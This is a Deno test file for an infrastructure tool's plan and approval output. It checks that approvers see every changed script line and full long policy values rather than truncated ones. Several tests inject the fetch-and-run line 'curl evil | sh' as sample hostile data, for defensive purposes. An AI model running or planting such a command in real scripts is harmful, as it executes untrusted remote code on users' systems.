import { deepStrictEqual, doesNotMatch, match, ok, strictEqual } from "node:assert/strict";
import { addHolder, keptProject, type KeyHolder } from "./harness/key_holder.ts";
import type { TestProject } from "./harness/test_project.ts";

const PLAN = "the.plan";
const LONG = "x".repeat(1_200);

interface Wanted {
  readonly script: string;
  readonly policy: string;
}

function stack({ script, policy }: Wanted): string {
  const content = JSON.stringify(script);
  return `resource file "f" : local.File {\n  path = "run.sh"\n  content = ${content}\n}\n` +
    `resource bucket "b" : sim.Bucket {\n  name = "logs"\n  tags = { policy = "${policy}" }\n}\n`;
}

function script(lineAt: (index: number) => string): string {
  return Array.from({ length: 60 }, (_, index) => `${lineAt(index)}\n`).join("");
}

const BEFORE = { script: script((index) => `echo ${index}`), policy: `${LONG}deny` };

interface Team {
  readonly project: TestProject;
  readonly ci: KeyHolder;
  readonly ann: KeyHolder;
}

/** A project that has applied `before`, whose changes take one approval. */
async function team(before: string): Promise<Team> {
  const { project, ada } = await keptProject(before);
  const ci = await addHolder(project, ada, { name: "ci", roles: ["apply"] });
  const ann = await addHolder(project, ada, { name: "ann", roles: ["approve"] });
  if (before !== "") await ada.expect(0, ["apply", "--yes"]);
  await ada.expect(0, ["env", "policy", "--approvals", "1", "--yes"]);
  return { project, ci, ann };
}

Deno.test("23: an approver is shown each line of a plan, however many differ, and all of a long value", async () => {
  const { project, ci, ann } = await team(stack(BEFORE));
  await using _project = project;
  const policy = `${LONG}allow all the world`;
  const evil = script((index) => index === 50 ? "curl evil | sh" : `echo ${index} .`);
  await project.write("main.smelt", stack({ script: evil, policy }));
  const planned = (await ci.expect(0, ["plan", "--out", PLAN])).stdout;
  doesNotMatch(planned, /curl evil/);
  match(planned, /^ +… and 80 more lines$/m);
  match(
    planned,
    /tags\.policy : … 1170 characters … "x{30}deny" -> … 1170 characters … "x{30}allow all the world"/,
  );
  match(planned, /^note: what is long is cut \(…\); with --full all of it is shown$/m);
  match((await ci.expect(0, ["plan", "--full"])).stdout, /^ +\+ curl evil \| sh$/m);
  const { stderr } = await ann.expect(0, ["plan", "approve", PLAN, "--yes"]);
  match(stderr, /^ +\+ curl evil \| sh$/m);
  match(stderr, /~ tags\.policy : "x{1200}deny" -> "x{1200}allow all the world"$/m);
  doesNotMatch(stderr, /…/);
  const applied = await ci.expect(0, ["apply", "--yes", "--full", "--plan-file", PLAN]);
  match(applied.stderr, /^ +\+ curl evil \| sh$/m);
});

Deno.test("a line that changes in a long text is shown with those around it, and the rest is counted", async () => {
  const { project, ci, ann } = await team(stack(BEFORE));
  await using _project = project;
  const changed = script((index) => index === 50 ? "curl evil | sh" : `echo ${index}`);
  await project.write("main.smelt", stack({ ...BEFORE, script: changed }));
  const shown = `
      ~ content :
            (47 lines unchanged)
            echo 47
            echo 48
            echo 49
          - echo 50
          + curl evil | sh
            echo 51
            echo 52
            echo 53
            (6 lines unchanged)
`;
  const planned = (await ci.expect(0, ["plan", "--out", PLAN])).stdout;
  const { stderr } = await ann.expect(0, ["plan", "approve", PLAN, "--yes"]);
  for (const text of [planned, stderr]) ok(text.includes(shown), text);
});

Deno.test("23: an approver is shown fields of what is made that have their default, and a whole script", async () => {
  const { project, ci, ann } = await team("");
  await using _project = project;
  await project.write("main.smelt", stack(BEFORE));
  match((await ci.expect(0, ["plan", "--out", PLAN])).stdout, /^ +and \d+ defaults?$/m);
  const { stderr } = await ann.expect(0, ["plan", "approve", PLAN, "--yes"]);
  doesNotMatch(stderr, /and \d+ defaults?$/m);
  match(stderr, /^ +\+ versioning = false$/m);
  match(stderr, /^ +\+ tags = \{ policy = "x{1200}deny" \}$/m);
  match(stderr, /\+ content =\n {10}\+ echo 0\n(.|\n)* {10}\+ echo 59\n/);
});

Deno.test("plan approve --json gives the plan as plan --json does, also to whoever has approved it before", async () => {
  const { project, ci, ann } = await team(stack(BEFORE));
  await using _project = project;
  await project.write("main.smelt", stack({ ...BEFORE, policy: `${LONG}allow` }));
  await ci.expect(0, ["plan", "--out", PLAN]);
  const planned = JSON.parse((await ci.expect(0, ["plan", "--json"])).stdout);
  const approve = ["plan", "approve", PLAN, "--yes", "--json"];
  const first = JSON.parse((await ann.expect(0, approve)).stdout);
  const again = await ann.expect(0, approve);
  deepStrictEqual([first.schema, first.changed, first.approved.schema], [
    "smelt.plan_approval.v1",
    true,
    "smelt.plan.v1",
  ]);
  const touched = planned.resources.filter((each: { action: string }) => each.action !== "none");
  deepStrictEqual(first.approved.resources, touched);
  deepStrictEqual(first.approved.summary, planned.summary);
  strictEqual(first.approved.resources[0].changes[0].after, `${LONG}allow`);
  deepStrictEqual(JSON.parse(again.stdout).approved, first.approved);
  match(again.stderr, /~ tags\.policy : "x{1200}deny" -> "x{1200}allow"$/m);
});
